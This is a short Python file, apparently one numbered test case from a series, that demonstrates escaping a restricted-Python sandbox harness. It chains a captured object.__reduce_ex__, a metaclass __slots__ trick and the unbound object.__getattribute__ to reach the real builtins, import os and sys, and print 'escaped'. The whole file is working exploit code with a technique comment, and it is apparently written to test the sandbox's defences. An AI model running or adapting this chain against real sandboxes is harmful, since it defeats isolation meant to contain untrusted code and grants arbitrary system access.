# technique: super(M, C) (C a class of user metaclass M) passes the guarded object.__reduce_ex__ (captured via enum as in 382; private_ok trusts a super whose __self_class__ is the user's M); reduce_newobj then reads super(M,C).__getstate__, which binds object.__getstate__ to C (not to the super, so it is called, not short-cut), and object_getstate_default(C) does an unchecked getattr on the class C for every name copyreg._slotnames computes from M.__dict__['__slots__'] (assigned after M exists; caching as __slotnames__ is refused and swallowed): C.__getattribute__ is the UNBOUND object.__getattribute__ slot wrapper -> json.dumps.__globals__ -> real __builtins__ -> real __import__('os')
# expect: any
import enum, json
got = []
class Spy:
    def __eq__(self, other):
        got.append(other)
        return False
    __hash__ = object.__hash__
Mixin = type("Mixin", (), {"__reduce_ex__": Spy()})
class E(Mixin, enum.Enum):
    A = 1
red = got[0]                          # guarded object.__reduce_ex__
class M(type):
    pass
class C(metaclass=M):
    pass
M.__slots__ = ["__getattribute__"]    # copyreg._slotnames(M) -> ['__getattribute__']
r = red(super(M, C), 2)
og = r[2][1]["__getattribute__"]
print("got:", og)
g = og(json.dumps, "__globals__")
bi = g["__builtins__"]
print("real builtins:", type(bi), bi["open"], bi["eval"], bi["__import__"])
os = bi["__import__"]("os")
sys = bi["__import__"]("sys")
print("real os:", os, "pid", os.getpid())
print("real sys:", sys, len(sys.modules), "modules; harness:", sys.modules["_safepy_harness"])
result = "escaped"
